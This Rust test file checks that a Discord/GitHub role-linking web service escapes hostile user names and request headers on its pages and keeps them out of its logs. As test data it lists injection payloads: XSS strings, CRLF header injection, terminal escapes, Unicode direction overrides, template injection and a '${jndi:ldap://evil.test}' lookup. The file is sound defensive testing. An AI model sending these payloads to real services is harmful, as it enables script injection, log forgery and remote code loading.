//! Names that people chose to harm, on every page and in the log.

use bytes::Bytes;
use http::{HeaderValue, Request};

use super::{ADA, OCTOCAT, populate};
use crate::harness::{Answer, GUILD, OWNER, POPULAR, ROLES, role, watched};

/// What no page may hold as it stands here.
const MARKUP: [&str; 5] = ["<script>alert", "<img src=x", "\"><b auto", "<style>", "'><i on"];

fn hostile() -> Vec<String> {
    let mut names: Vec<String> = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><i onmouseover=x>",
        "\"><b autofocus onfocus=x>",
        "</title><style>*{display:none}</style>",
        "{{7*7}} {% raw %} ${7*7}",
        "ada\u{202e}nimda\u{2066}\u{2069}\u{200b}\u{200d}\u{feff}\u{e0041}",
        "@everyone @here <@&1> <#2> </cmd:1>",
        "[x](https://evil.test) `code` https://discord.gg/evil",
        "ada\r\nSet-Cookie: evil=1\r\n\r\n<h1>",
        "ada\u{1b}[31m\u{7}\u{0}\u{9b}1m",
        "&lt;script&gt; &#x3c;b&#x3e; %3Cscript%3E",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
        "\u{200b}\u{202e}",
    ]
    .map(str::to_owned)
    .into();
    names.push("W".repeat(10_000));
    names
}

/// A page that shows names, and no more than names.
fn is_tame(page: &Answer, name: &str) {
    let name: String = name.chars().take(60).collect();
    // A platform whose names make no sense is answered with 502.
    assert!(page.status != 500, "{name:?} at {}: {}", page.url, page.status);
    for markup in MARKUP {
        assert!(!page.body.contains(markup), "{name:?} at {}: {}", page.url, page.body);
    }
    let disturbs = |c: char| {
        // U+2068 and U+2069 are ours: they keep a name's direction to itself.
        let ours = "\n\u{2068}\u{2069}".contains(c);
        let hidden = "\u{200b}\u{200d}\u{feff}\u{202a}\u{202b}\u{202d}\u{202e}\u{2066}\u{2067}".contains(c);
        (c.is_control() && !ours) || hidden || ('\u{e0000}'..='\u{e007f}').contains(&c)
    };
    assert!(!page.body.contains(disturbs), "{name:?} at {}", page.url);
    assert!(!page.body.contains(&"W".repeat(101)), "a long name is cut");
    assert!(!page.body.contains("href=\"https://evil") && !page.body.contains("href=\"https://discord.gg"));
    assert!(
        !page.headers.contains_key("set-cookie")
            || !page.headers["set-cookie"].as_bytes().starts_with(b"evil")
    );
    for source in page.body.split("src=\"").skip(1) {
        assert!(source.starts_with('/'), "nothing is fetched from elsewhere: {name:?} at {}", page.url);
    }
}

#[test]
fn n_69_and_n_72_hostile_names_harm_no_page_and_no_log() {
    watched(async |app| {
        populate(app);
        app.rule(POPULAR, "github.followers >= 10").await;
        for name in hostile() {
            app.discord.user(ADA, &name);
            app.discord.guild(GUILD, &name, OWNER);
            app.discord.join(GUILD, ADA);
            app.discord.add_bot(GUILD, crate::harness::APPLICATION, 50);
            app.discord.role(GUILD, role(POPULAR, &name, 10));
            app.github.change(OCTOCAT, |account| account.login.clone_from(&name));
            app.advance(domain::moment::Span::minutes(11));

            let mut ada = app.browser();
            is_tame(&ada.sign_in(ADA).await, &name);
            app.settle(ADA).await;
            let confirm = ada.to_confirm("github", OCTOCAT).await;
            is_tame(&confirm, &name);
            if confirm.status == 200 {
                let guild = GUILD.to_string();
                let fields =
                    [("decision", "link"), ("guild", guild.as_str()), ("name", &guild), ("profile", "yes")];
                is_tame(&ada.submit(&confirm, &fields).await, &name);
                app.settle(ADA).await;
            }
            for path in
                ["/", "/privacy", "/terms", "/dashboard/connections", "/api/role-connections/github/result"]
            {
                is_tame(&ada.visit(path).await, &name);
            }
            is_tame(&ada.get("/nothing").await, &name);
            is_tame(&ada.get("/auth/discord/callback?state=x").await, &name);
            let page = ada.get("/dashboard/connections").await;
            for (path, fields) in [("unlink", &[("platform", "github")][..]), ("erase", &[])] {
                let sure =
                    ada.post_with_token(&format!("/dashboard/connections/{path}"), &page, fields).await;
                is_tame(&sure, &name);
            }
        }
        for call in app.discord.log() {
            let reason = call.reason.unwrap_or_default();
            assert!(
                reason.is_empty() || reason.starts_with("rule "),
                "names stay out of the audit log: {reason}"
            );
        }
        for line in app.log.lines() {
            assert!(!line.text.contains(|c: char| c.is_control() || c == '\u{202e}'), "{:?}", line.text);
        }
        app.no_secret_logged();
    });
}

#[test]
fn n_72_what_a_request_says_of_itself_is_not_logged() {
    watched(async |app| {
        populate(app);
        for text in ["ada\u{1b}[31m forged", "${jndi:ldap://evil.test}", "forged%0d%0a2026 ERROR forged"] {
            for name in ["user-agent", "referer", "accept-language", "x-forwarded-for", "origin"] {
                let path = "/auth/discord/callback?code=forged%0d%0aforged&state=forged%1b%5b31m";
                let mut request = Request::get(format!("https://{ROLES}{path}")).body(Bytes::new()).unwrap();
                let value = HeaderValue::from_bytes(text.as_bytes());
                let Ok(value) = value else { continue };
                request.headers_mut().insert(name, value);
                assert_eq!(app.browser().send(request).await.status, 400);
            }
        }
        for line in app.log.lines() {
            assert!(!line.text.contains("forged") && !line.text.contains("jndi"), "{}", line.text);
        }
    });
}
